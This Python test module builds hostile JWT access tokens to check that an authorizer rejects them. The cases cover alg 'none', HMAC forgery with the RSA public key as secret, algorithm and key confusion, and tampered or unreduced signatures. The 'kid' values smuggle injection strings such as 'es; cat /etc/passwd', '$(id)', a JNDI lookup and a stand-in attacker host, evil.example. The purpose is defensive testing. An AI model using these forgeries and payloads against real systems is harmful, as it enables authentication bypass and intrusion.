"""Tokens whose signature, or what they say about it, is wrong."""

import hmac
import json
from base64 import urlsafe_b64decode
from collections.abc import Iterator
from typing import NamedTuple

from cryptography.hazmat.primitives.asymmetric import ec, ed448
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.authorizer.hostile.credentials import AT, Table, bearer, with_header
from tests.authorizer.tokens import (
    EDDSA,
    ES256,
    KEYS,
    PS256,
    RS256,
    Key,
    base64url,
    claims,
    rsa_key,
    token,
)

P384 = Key("p384", "ES384", ec.generate_private_key(ec.SECP384R1()))
P256K = Key("p256k", "ES256K", ec.generate_private_key(ec.SECP256K1()))
OKP448 = Key("ed448", "EdDSA", ed448.Ed448PrivateKey.generate())
WEAK = rsa_key("weak", bits=1024)
ENCRYPTS = rsa_key("encrypts")
ROTATED = rsa_key("rotated")
SECRET = {"kty": "oct", "kid": "secret", "alg": "HS256", "k": base64url(b"secret" * 8)}

# What the issuer publishes: good keys, and some that must not be used.
JWKS = [
    *(key.jwk() for key in KEYS),
    RS256.jwk(kid="any", alg=None),
    *(key.jwk() for key in (P384, P256K, OKP448, WEAK)),
    P384.jwk(kid="p384-any", alg=None),
    ENCRYPTS.jwk(use="enc"),
    ES256.jwk(kid="signs", key_ops=["sign"]),
    RS256.jwk(kid="rs512", alg="RS512"),
    SECRET,
]


def stolen(**header: object) -> str:
    """Return a token that somebody else signed, with this header."""
    return bearer(token(header={**AT, **header}, key=ROTATED._replace(kid=RS256.kid)))


def algorithm() -> Table:
    """Tokens that choose how they are verified (RFC 8725, sections 3.1 and 3.2)."""
    payload = token().split(".")[1]
    header = b'{"alg":"none","typ":"at+jwt","kid":"rs"}'
    unsigned = f"{base64url(header)}.{payload}"
    for name in ("none", "None", "NONE", "nOnE", "", " ", "null"):
        yield f"algorithm {name!r}", with_header(alg=name)
    yield "no algorithm", with_header(alg=None)
    yield "no algorithm, no signature", bearer(f"{unsigned}.")
    yield "no algorithm, any signature", bearer(f"{unsigned}.AAAA")
    wrong: tuple[object, ...] = (1, True, [], ["ES256"], {}, {"ES256": 1})
    for value in wrong:
        yield f"algorithm {value!r}", with_header(alg=value)
    for name in ("es256", "ES256 ", "ES256K", "ES512", "Ed25519", "RS1", "HS256", "A" * 1000):
        yield f"algorithm {name[:9]!r}", with_header(alg=name)
    for name, secret in secrets():
        for digest in ("256", "512"):
            mac = Mac("rs", f"HS{digest}", secret)
            yield f"HMAC-SHA{digest} with {name}", bearer(token(header=AT, key=mac))
    yield (
        "HMAC with a published secret",
        bearer(token(header=AT, key=Mac("secret", "HS256", b"secret" * 8))),
    )
    for name in ("RS384", "RS512", "PS384", "PS512"):
        for kid in ("rs", "any"):
            key = RS256._replace(algorithm=name, kid=kid)
            yield f"{name} with the key {kid}", bearer(token(header=AT, key=key))
    yield "RS256 with a key for PS256", bearer(token(header=AT, key=RS256._replace(kid="ps")))
    yield "PS256 with a key for RS256", bearer(token(header=AT, key=PS256._replace(kid="rs")))
    yield "RS256 with a key for RS512", bearer(token(header=AT, key=RS256._replace(kid="rs512")))
    yield (
        "PS256 called RS256",
        bearer(token(header={**AT, "alg": "RS256"}, key=PS256._replace(kid="any"))),
    )
    yield "RS256 called ES256", bearer(token(header={**AT, "alg": "ES256"}, key=RS256))
    yield "ES256 called EdDSA", bearer(token(header={**AT, "alg": "EdDSA"}, key=ES256))
    for key in (P384, P256K, OKP448, P384._replace(kid="p384-any")):
        yield f"{key.algorithm} with {key.kid}", bearer(token(header=AT, key=key))
        yield f"{key.kid} called ES256", bearer(token(header={**AT, "alg": "ES256"}, key=key))


def secrets() -> Iterator[tuple[str, bytes]]:
    """Yield what an attacker knows about the public key, in forms that it may be kept in."""
    public = RS256.private.public_key()
    for encoding in (Encoding.PEM, Encoding.DER):
        for form in (PublicFormat.SubjectPublicKeyInfo, PublicFormat.PKCS1):
            yield f"{encoding} {form}", public.public_bytes(encoding, form)
    yield "the JWK", json.dumps(RS256.jwk()).encode()
    yield "the modulus", urlsafe_b64decode(RS256.jwk()["n"] + "==")
    yield "nothing", b""


class Mac(NamedTuple):
    """A secret that signs as a key does."""

    kid: str
    algorithm: str
    secret: bytes

    def sign(self, signed: bytes) -> bytes:
        """Return the authentication code of these bytes."""
        return hmac.digest(self.secret, signed, f"sha{self.algorithm[2:]}")


def key() -> Table:
    """Tokens that name a wrong key, or bring their own (RFC 8725, sections 3.5 and 3.10)."""
    yield "a weak key", bearer(token(header=AT, key=WEAK))
    yield "a weak key, PS256", bearer(token(header=AT, key=WEAK._replace(algorithm="PS256")))
    yield "a key that encrypts", bearer(token(header=AT, key=ENCRYPTS))
    yield "a key that only signs", bearer(token(header=AT, key=ES256._replace(kid="signs")))
    yield "a key that was rotated away", bearer(token(header=AT, key=ROTATED))
    yield "another key of the same name", stolen()
    wrong: tuple[object, ...] = (None, 1, True, [], ["es"], {}, {"kid": "es"})
    for value in wrong:
        yield f"key {value!r}", with_header(kid=value)
    for name in (
        "",
        "ES",
        "es ",
        "es\0",
        "../../../dev/null",
        "/dev/null",
        "file:///etc/passwd",
        "https://evil.example/jwks",
        "es' OR '1'='1",
        "es; cat /etc/passwd",
        "$(id)",
        "${jndi:ldap://evil.example/a}",
        "\ud800",
        "a" * 4000,
    ):
        yield f"key {name[:30]!r}", with_header(kid=name)
    own = ROTATED.jwk(kid="rs")
    for name, value in {
        "jwk": own,
        "jku": "https://evil.example/jwks",
        "x5u": "https://evil.example/chain.pem",
        "x5c": ["MIIB"],
    }.items():
        yield f"{name} of an attacker", stolen(**{name: value})
        yield f"{name} and a good signature", with_header(**{name: value})
    for value in (["exp"], ["b64"], [], "exp", {}, 1):
        yield f"critical {value!r}", with_header(crit=value)
    yield (
        "null is critical",
        bearer(token(header=b'{"alg":"ES256","typ":"at+jwt","kid":"es","crit":null}')),
    )
    yield "detached", with_header(b64=False)
    yield "detached and critical", with_header(b64=False, crit=["b64"])


def kind() -> Table:
    """Tokens of another type (RFC 9068, section 4; RFC 8725, section 3.11)."""
    for typ in (
        None,
        "",
        "JWT",
        "jwt",
        "application/jwt",
        "id+jwt",
        "dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "token-introspection+jwt",
        "at",
        "at jwt",
        "at+jwt ",
        "at+jwt; a=b",
        "text/at+jwt",
        "application/application/at+jwt",
        "at+\u212ajwt",
        1,
        True,
        [],
        ["at+jwt"],
        {"at+jwt": 1},
    ):
        yield f"type {typ!r}", bearer(token(header={"typ": typ}))
    yield "type null", bearer(token(header=b'{"alg":"ES256","typ":null,"kid":"es"}'))


def signature() -> Table:
    """Tokens that were changed after they were signed, or never were."""
    for each in KEYS:
        good = token(header=AT, key=each)
        head, payload, made = good.split(".")
        content = urlsafe_b64decode(f"{made}==")
        other = base64url(json.dumps(claims(sub="root")).encode())
        names = f"{each.algorithm}: "
        yield names + "other claims", bearer(f"{head}.{other}.{made}")
        yield (
            names + "another header",
            bearer(f"{base64url(b' ' + urlsafe_b64decode(head + '=='))}.{payload}.{made}"),
        )
        yield (
            names + "of another token",
            bearer(f"{head}.{payload}.{token(claims(jti='2'), AT, each).split('.')[2]}"),
        )
        for name, changed in {
            "zeros": bytes(len(content)),
            "ones": b"\xff" * len(content),
            "cut": content[:-1],
            "longer": content + b"\0",
            "zero before": b"\0" + content,
            "a byte": b"\0",
            "first bit": bytes([content[0] ^ 128]) + content[1:],
            "last bit": content[:-1] + bytes([content[-1] ^ 1]),
            "reversed": content[::-1],
        }.items():
            yield names + name, bearer(f"{head}.{payload}.{base64url(changed)}")
    parts = ".".join(token().split(".")[:2])
    yield "DER in place of both numbers", bearer(f"{parts}.{base64url(der_signature(parts))}")
    head, payload, made = token(key=EDDSA).split(".")
    yield "Ed25519, not reduced", bearer(f"{head}.{payload}.{base64url(unreduced(made))}")


def der_signature(parts: str) -> bytes:
    """Return an ECDSA signature as X.509 has it, not as JWS."""
    signature: bytes = ES256.private.sign(parts.encode(), ec.ECDSA(SHA256()))
    return signature


def unreduced(made: str) -> bytes:
    """Return an Ed25519 signature with the order of the group added to its number."""
    content = urlsafe_b64decode(f"{made}==")
    order = 2**252 + 27742317777372353535851937790883648493
    number = int.from_bytes(content[32:], "little") + order
    return content[:32] + number.to_bytes(32, "little")
